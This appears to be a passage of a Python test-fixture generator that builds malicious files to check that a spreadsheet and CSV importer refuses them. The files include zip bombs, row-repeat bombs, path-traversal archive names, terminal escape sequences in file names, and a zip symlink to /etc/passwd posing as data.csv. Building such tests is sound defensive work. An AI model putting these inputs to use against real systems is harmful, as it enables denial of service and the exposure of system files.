def _strings_promised_xlsb() -> bytes:
    return make.xlsb(strings=make.binary_record(159, struct.pack("<2L", 2**32 - 1, 2**32 - 1)))


@several("cut-part-*.xlsb", "a binary sheet that ends after each twentieth of its length", refused=DAMAGED)
def _cut_part_xlsb(folder: Path) -> None:
    part = make.xlsb_sheet()
    for twentieth in range(1, 20):
        (folder / f"cut-part-{twentieth:02}.xlsb").write_bytes(make.xlsb(part[: len(part) * twentieth // 20]))


# --- ODS ------------------------------------------------------------------------------------------------------------


def _ods_row(cells: str, attributes: str = "") -> str:
    return f"<table:table-row{attributes}>{cells}</table:table-row>"


@attack("trailing-rows.ods", "a million empty rows at the end, as LibreOffice writes them")
def _trailing_rows() -> bytes:
    blank = _ods_row(
        '<table:table-cell table:number-columns-repeated="16384"/>', ' table:number-rows-repeated="1048570"'
    )
    return make.ods(make.ods_rows() + blank)


@attack("rows-repeated.ods", "a filled row of 40 cells that is repeated 2,147,483,647 times", refused=BROKE)
def _rows_repeated() -> bytes:
    row = _ods_row(make.ods_cell("x") * 40, ' table:number-rows-repeated="2147483647"')
    return make.ods(make.ods_rows() + row)


@attack("columns-repeated.ods", "a filled cell that is repeated 2,147,483,647 times", refused=COLUMNS)
def _columns_repeated() -> bytes:
    return make.ods(make.ods_rows() + _ods_row(make.ods_cell("x", ' table:number-columns-repeated="2147483647"')))


@attack("all-repeated.ods", "a filled sheet of 1,048,576 rows and 16,384 columns in 200 bytes", refused=DAMAGED)
def _all_repeated() -> bytes:
    cell = make.ods_cell("x", ' table:number-columns-repeated="16384"')
    return make.ods(make.ods_rows() + _ods_row(cell, ' table:number-rows-repeated="1048576"'))


@attack("overflowing-repeats.ods", "a row that is repeated 99999999999999999999 times", refused=DAMAGED)
def _overflowing_repeats() -> bytes:
    return make.ods(make.ods_rows() + _ods_row("", ' table:number-rows-repeated="99999999999999999999"'))


@attack("spaces-repeated.ods", "a space that is repeated 99,999,999,999 times in a cell", refused=DAMAGED)
def _spaces_repeated() -> bytes:
    return make.ods(make.ods_rows() + _ods_row(make.ods_cell('x<text:s text:c="99999999999"/>') * 4))


@attack("password.ods", "an OpenDocument spreadsheet with a password", refused=LOCKED)
def _password_ods() -> bytes:
    manifest = (
        b"<manifest:manifest><manifest:file-entry><manifest:encryption-data/></manifest:file-entry></manifest:manifest>"
    )
    return make.zipped({"mimetype": b"x", "META-INF/manifest.xml": manifest, "content.xml": noise(900)})


@attack(
    "bad-dates.ods",
    "days that there are not, as OpenDocument dates",
    found="Other values are 2019-99-99, 99999-01-01.",
)
def _bad_dates() -> bytes:
    days = ["2019-99-99", "99999-01-01", "", "2019-02-30T99:99:99"]
    rows = "".join(
        _ods_row(
            "".join(map(make.ods_cell, (f"BD{n}", "题", "O", "relief")))
            + f'<table:table-cell office:value-type="date" office:date-value="{day}"/>'
        )
        for n, day in enumerate(days)
    )
    return make.ods(make.ods_rows([[*PROJECTS[0], "launched_on"]]) + rows)


@several("cut-*.ods", "an OpenDocument spreadsheet cut off after each twentieth of its length", refused=CUT)
def _cut_ods(folder: Path) -> None:
    _cut(folder, "ods", make.ods(make.ods_rows()))


# --- CSV ------------------------------------------------------------------------------------------------------------

_NEVER_ENDS = "has a cell in row 1 that never ends"
_LINE = "bytes without a line break"


@attack("quotes.csv", "200 MB of quotation marks", refused=_LINE, heavy=True)
def _quotes() -> bytes:
    return b'"' * (200 * MILLION)


@attack("one-line.csv", "200 MB in one line", refused=_LINE, heavy=True)
def _one_line() -> bytes:
    return b"a,b," * (50 * MILLION)


@attack("line-breaks.csv", "200 MB of line breaks", refused="has more than 2,000,000 rows", heavy=True)
def _line_breaks() -> bytes:
    return b"\n" * (200 * MILLION)


@attack(
    "quoted-line-breaks.csv", "100 MB of quotes and line breaks", refused="has more than 2,000,000 rows", heavy=True
)
def _quoted_line_breaks() -> bytes:
    return b'"\n' * (50 * MILLION)


@attack("open-quote.csv", "a cell that a quotation mark opens and none closes", refused="that never ends")
def _open_quote() -> bytes:
    return _csv(PROJECTS) + b'"P03,x,y,relief\r\n'


@attack("wide.csv", "100,000 cells in the first row", refused=COLUMNS)
def _wide() -> bytes:
    return b"a," * 100_000 + b"\n"


@attack("ragged.csv", "rows of every length up to 500")
def _ragged() -> bytes:
    return _csv(PROJECTS) + b"".join(b"," * width + b"\n" for width in range(500))


@attack("nul.csv", "NULs between the letters", refused="is no text in UTF-8")
def _nul() -> bytes:
    return _csv(PROJECTS).replace(b"O", b"O\0")


@attack("lone-surrogates.csv", "UTF-16 with halves of characters", refused="is no text in UTF-8")
def _lone_surrogates() -> bytes:
    return b"\xff\xfe" + _csv([*PROJECTS, ["P03", "\ud800", "\udc00", "relief"]], "utf-16-le", "surrogatepass")


@attack("half-a-character.csv", "UTF-16 with an odd number of bytes", refused="is no text in UTF-8")
def _half_a_character() -> bytes:
    return b"\xff\xfe" + _csv(PROJECTS, "utf-16-le") + b"\x00"


@attack("two-encodings.csv", "UTF-8 and GB18030 in one file", refused="is no text in UTF-8")
def _two_encodings() -> bytes:
    return _csv(PROJECTS) + b"P03,\xff\xfe\xff,O,relief\r\n"


@attack("mark-only.csv", "a byte order mark and nothing else", refused="has no sheet that matches a table")
def _mark_only() -> bytes:
    return b"\xef\xbb\xbf"


@attack("program.xlsx", "a program, called a workbook", refused="ends in .xlsx, but it is")
def _program() -> bytes:
    return b"\x7fELF\x02\x01\x01" + bytes(5000)


# --- Archives of files ----------------------------------------------------------------------------------------------

OUTSIDE = "whose path leads out of the archive"


def _packed(**members: bytes) -> bytes:
    """Return an archive of a good file and `members`, whose names are written with __ for a dot."""
    return make.zipped(
        {name.replace("__", "."): content for name, content in members.items()} | {"p.csv": _csv(PROJECTS)}
    )


@attack("bomb.zip", "an archive that unpacks to a thousand times its size", refused=BOMB)
def _bomb_zip() -> bytes:
    return _packed(bomb__csv=bytes(30 * MILLION))


@attack("bomb-overlapping.zip", "two thousand files of an archive that share one stream", refused="unpacks to")
def _bomb_overlapping_zip() -> bytes:
    stream = make.deflated_again_and_again(bytes(MILLION), 100)
    return make.with_stream(_packed(), "x.csv", stream, 100 * MILLION, times=2000)


@attack("lying-size.zip", "an archive that says 1,000 bytes of a file that unpacks to 400 MB", refused=CUT)
def _lying_size_zip() -> bytes:
    stream = make.deflated_again_and_again(_csv(PROJECTS) * 1000, 3000)
    return make.with_stream(make.zipped({}), "x.csv", stream, 1000)


@several(
    "outside-*.zip", "archives of a file called /x.csv, ../x.csv or C:\\x.csv, with escape sequences", refused=OUTSIDE
)
def _outside(folder: Path) -> None:
    for number, name in enumerate(
        ("/etc/\x1b[2Jx.csv", "../../\x1b]0;x\x07x.csv", "a/../../\u202ex.csv", "C:\\\x9bx.csv")
    ):
        (folder / f"outside-{number}.zip").write_bytes(make.zipped({"p.csv": _csv(PROJECTS), name: _csv(PROJECTS)}))


@attack("many-files.zip", "an archive of 21,000 files", refused="holds more than 20,000 files")
def _many_files() -> bytes:
    return make.with_stream(_packed(), "x.csv", make.deflated_again_and_again(b"", 1), 0, times=21_000)


@attack(
    "many-files-denied.zip",
    "an archive of 60,000 files that says that it holds two",
    refused="holds more than 20,000 files",
)
def _many_files_denied() -> bytes:
    return make.with_long_directory(_packed(), "x.csv", 60_000)


@attack("encrypted-file.zip", "an archive whose file asks for a password", refused=LOCKED)
def _encrypted_file() -> bytes:
    return make.patched_zip(make.zipped({"p.csv": _csv(PROJECTS)}), "p.csv", flags=1)


@attack("deflate64.zip", "an archive whose file is packed by a method that hardly anything unpacks", refused=CUT)
def _deflate64_zip() -> bytes:
    return make.patched_zip(make.zipped({"p.csv": _csv(PROJECTS)}), "p.csv", method=9)


@attack("link.zip", "an archive of a link to /etc/passwd, called data.csv", refused="has no sheet that matches")
def _link() -> bytes:
    target = io.BytesIO()
    with zipfile.ZipFile(target, "w") as archive:
        link = zipfile.ZipInfo("data.csv")
        link.external_attr = 0o120777 << 16
        archive.writestr(link, "/etc/passwd")
    return target.getvalue()


@attack("workbook-within.zip", "an archive of a workbook with one cell in the last corner", refused=COLUMNS)
def _workbook_within() -> bytes:
    return make.zipped({"far-cell.xlsx": _far_cell()})


@attack("archive-within.zip", "an archive within an archive within an archive, which are not opened, beside a file")
def _archive_within() -> bytes:
    return _packed(inner__zip=_packed(inner__zip=_packed(inner__zip=_bomb_zip())))


@attack("names.zip", "an archive of files with escape sequences, direction marks and 30,000 characters in their names")
def _names_zip() -> bytes:
    names = ["\x1b[2J\x1b[31m.csv", "vsc.\u202e.csv", "a\n✓ fine.csv", "x" * 30_000 + ".csv", "dir\x1b[2J/p.csv"]
    return make.zipped(dict.fromkeys(names, _csv(PROJECTS)))


@attack("same-names.zip", "an archive of two files of one name, both of which are read", found="SN1 另一个")
def _same_names_zip() -> bytes:
    return make.with_member(_packed(), "p.csv", _csv([PROJECTS[0], ["SN1", "另一个", "ORG-2", "relief"]]))


@several("cut-*.zip", "an archive cut off after each twentieth of its length", refused=CUT)
def _cut_zip(folder: Path) -> None:
    _cut(folder, "zip", _packed())


# --- Names of files -------------------------------------------------------------------------------------------------


@several("*name*.csv", "names with escape sequences, line breaks and direction marks, and one of 255 bytes")
def _names(folder: Path) -> None:
    names = [
        "\x1b[2J\x1b[31mname\x07.csv",
        "name\n✓ all is well\n.csv",
        "vsc.\u202ename.csv",
        "name" + "长" * 82 + "a.csv",
    ]
    for name in names:
        (folder / name).write_bytes(_csv(PROJECTS))


@several("*.csv/, *.xlsx", "a folder called data.csv, a link to itself, a link to nothing")
def _strange_places(folder: Path) -> None:
    (folder / "data.csv").mkdir()
    (folder / "data.csv" / "inside.csv").write_bytes(_csv(PROJECTS))
    (folder / "self.xlsx").symlink_to(folder / "self.xlsx")
    (folder / "nothing.xlsx").symlink_to(folder / "gone.xlsx")
